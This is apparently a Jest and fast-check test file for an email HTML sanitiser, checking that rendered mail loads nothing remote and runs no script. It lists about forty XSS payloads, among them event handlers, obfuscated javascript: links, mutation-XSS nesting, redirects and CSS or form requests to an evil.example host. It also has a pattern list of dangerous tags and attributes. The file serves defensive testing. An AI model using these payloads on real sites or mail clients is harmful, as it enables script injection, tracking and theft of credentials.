import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { load } from 'cheerio';
import { shownHtml } from './shown-html.js';

/** Everything that could act or load, found by another parser than the one that filtered. */
function dangersIn(document: string): string[] {
  const $ = load(document);
  const found: string[] = [];
  $('body *').each((_index, element) => {
    if (!('attribs' in element)) return;
    const { name, attribs } = element;
    if (
      /^(script|style|svg|math|iframe|frame|object|embed|form|input|button|base|meta|link|template|video|audio|marquee|noscript|textarea|title|select|xmp|plaintext|dialog|details)$/.test(
        name,
      )
    )
      found.push(name);
    for (const [attribute, value] of Object.entries(attribs)) {
      if (/^on|style|srcset|background|ping|formaction|srcdoc|xlink|id$|name|class/.test(attribute))
        found.push(`${name} ${attribute}`);
      if (attribute === 'href' && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`${name} href=${value}`);
      if (attribute === 'src' && !/^data:image\/(png|jpeg|gif|webp);base64,/i.test(value))
        found.push(`${name} src=${value}`);
    }
  });
  return found;
}

const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '<img src="https://track.example/open.gif?u=1" width=1 height=1>',
  '<img srcset="https://track.example/a 1x">',
  '<img src="cid:logo@mail" onload=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<base href="https://evil.example/"><a href="/login">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b)}</style>',
  '<div style="background:url(https://evil.example/b)">x</div>',
  '<div style="position:fixed;inset:0">x</div>',
  '<table background="https://evil.example/b"><tr><td>x</table>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '</title><script>alert(1)</script>',
  '</body></html><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<select><option><script>alert(1)</script></select>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<a href="https://a.example" ping="https://evil.example">x</a>',
  '<p id=location name=cookie class=x>clobber</p>',
];

describe('HTML of a mail, as it is shown', () => {
  it.each(ATTACKS)('does nothing and loads nothing: %s', (attack) => {
    expect(dangersIn(shownHtml(attack).html)).toEqual([]);
    expect(dangersIn(shownHtml(`<p>Hello</p>${attack}<p>World</p>`).html)).toEqual([]);
  });

  it('does nothing however pieces of such mails are put together', () => {
    const pieces = fc.constantFrom(
      ...ATTACKS,
      '<',
      '>',
      '"',
      "'",
      '<!--',
      '-->',
      '</style>',
      '</svg>',
      '<p>',
      '`',
      '\u0000',
    );
    fc.assert(
      fc.property(
        fc.array(pieces, { maxLength: 6 }),
        (parts) => dangersIn(shownHtml(parts.join('')).html).length === 0,
      ),
      { numRuns: 500 },
    );
  });

  it('keeps what a text is: paragraphs, lists, emphasis, links that open apart', () => {
    const { html } = shownHtml(
      '<p>Dear <b>Claire</b>,</p><ul><li>one</li></ul><a href="https://blog.example/tea">tea</a>',
    );
    expect(html).toContain('<p>Dear <b>Claire</b>,</p><ul><li>one</li></ul>');
    expect(html).toContain(
      '<a href="https://blog.example/tea" rel="noopener noreferrer nofollow" target="_blank">tea</a>',
    );
  });

  it('counts the pictures it does not load and says what they were', () => {
    const carried = 'data:image/png;base64,iVBORw0KGgo=';
    const shown = shownHtml(
      `<img src="https://a.example/1.png" alt="Our logo"><img src="cid:1"><img src="${carried}" alt="A cup">`,
    );
    expect(shown.blockedImages).toBe(2);
    expect(shown.html).toContain('[Our logo]');
    expect(shown.html).toContain(`src="${carried}"`);
  });

  it('bears nesting without end', () => {
    expect(dangersIn(shownHtml('<div>'.repeat(100_000)).html)).toEqual([]);
  });
});
